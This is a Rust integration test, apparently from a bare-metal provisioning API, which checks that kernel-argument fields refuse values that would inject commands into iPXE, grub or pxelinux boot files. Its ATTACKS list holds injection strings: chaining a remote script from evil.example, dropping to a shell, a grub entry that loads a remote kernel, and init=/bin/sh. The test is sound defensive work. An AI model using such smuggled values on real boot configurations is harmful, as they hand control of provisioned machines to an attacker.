//! Values that end up in a node's boot files (kernel arguments) cannot add
//! lines, commands or variables to them: the API refuses them with a 400
//! naming the field and the character, and the node does not change.

use reqwest::StatusCode;
use serde_json::json;

use crate::helpers::spawn_app;

/// What an attacker tried (the findings of the hardening issue): a second
/// iPXE command on a new line, iPXE's `||` chaining, a grub menu entry, a
/// pxelinux label, an iPXE variable.
const ATTACKS: [&str; 6] = [
    "console=ttyS0\nchain http://evil.example/pwn.ipxe",
    "console=ttyS0\r\nshell",
    "console=ttyS0 || shell",
    "quiet }\nmenuentry evil { linux http://evil/k",
    "quiet\nlabel evil\n  append init=/bin/sh",
    "ip=${net0/ip}",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kernel_arguments_that_would_change_a_boot_file_are_refused() {
    let app = spawn_app().await;
    let node = app.create_node("n1").await;
    let uuid = node["uuid"].as_str().unwrap().to_owned();
    let path = format!("/v1/nodes/{uuid}");
    let before = app.get(&path).await.text;

    for attack in ATTACKS {
        for (column, key) in [
            ("instance_info", "ramdisk_kernel_arguments"),
            ("driver_info", "kernel_append_params"),
        ] {
            let patched = app
                .patch(
                    &path,
                    json!([{"op": "add", "path": format!("/{column}/{key}"), "value": attack}]),
                )
                .await;
            assert_eq!(
                patched.status,
                StatusCode::BAD_REQUEST,
                "{attack:?}: {}",
                patched.text
            );
            assert!(
                patched
                    .text
                    .contains(&format!("Invalid kernel arguments in {column}/{key}")),
                "{}",
                patched.text
            );
            let created = app
                .post(
                    "/v1/nodes",
                    json!({"driver": "fake-hardware", column: {key: attack}}),
                )
                .await;
            assert_eq!(
                created.status,
                StatusCode::BAD_REQUEST,
                "{attack:?}: {}",
                created.text
            );
        }
    }
    assert_eq!(app.get(&path).await.text, before, "the node changed");
    let nodes = app.get("/v1/nodes").await.json();
    assert_eq!(nodes["nodes"].as_array().unwrap().len(), 1, "{nodes}");

    // Ordinary arguments are kept as they are.
    let patched = app
        .patch(
            &path,
            json!([{"op": "add", "path": "/instance_info/ramdisk_kernel_arguments",
                    "value": "console=ttyS0,115200n8 ipa-debug=1 nomodeset"}]),
        )
        .await;
    assert_eq!(patched.status, StatusCode::OK, "{}", patched.text);
    assert_eq!(
        patched.json()["instance_info"]["ramdisk_kernel_arguments"],
        "console=ttyS0,115200n8 ipa-debug=1 nomodeset"
    );
}
